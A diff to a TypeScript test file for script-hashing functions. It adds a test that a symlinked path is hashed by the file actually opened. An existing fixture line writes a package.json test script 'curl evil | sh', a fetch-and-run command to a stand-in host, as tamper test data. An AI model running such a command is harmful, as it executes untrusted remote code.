@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { generateKeyPairSync } from 'node:crypto';
-import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import {
@@ -86,6 +86,24 @@ describe('commandDigest and scriptHashFor', () => {
     expect(before).toMatch(/^[0-9a-f]{64}$/);
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}');
     expect(await scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
+  });
+
+  it('hashes the file the interpreter opens: lnk/../x.py through the link, not x.py as text', async () => {
+    const cwd = project();
+    const outside = tempDir('ctxbus-outside-');
+    mkdirSync(join(outside, 'sub'));
+    writeFileSync(join(outside, 'x.py'), 'print("outside")\n');
+    writeFileSync(join(cwd, 'x.py'), 'print("inside")\n');
+    symlinkSync(join(outside, 'sub'), join(cwd, 'lnk'));
+    const through = await scriptHashFor(['python3', 'lnk/../x.py'], cwd);
+    const direct = await scriptHashFor(['python3', join(outside, 'x.py')], cwd);
+    const inside = await scriptHashFor(['python3', 'x.py'], cwd);
+    expect(through).not.toBe(inside);
+    // Both name outside/x.py beside the same working tree, under different words.
+    writeFileSync(join(outside, 'x.py'), 'print("edited")\n');
+    expect(await scriptHashFor(['python3', 'lnk/../x.py'], cwd)).not.toBe(through);
+    expect(await scriptHashFor(['python3', join(outside, 'x.py')], cwd)).not.toBe(direct);
+    expect(await scriptHashFor(['python3', 'x.py'], cwd)).toBe(inside);
   });
 });
 
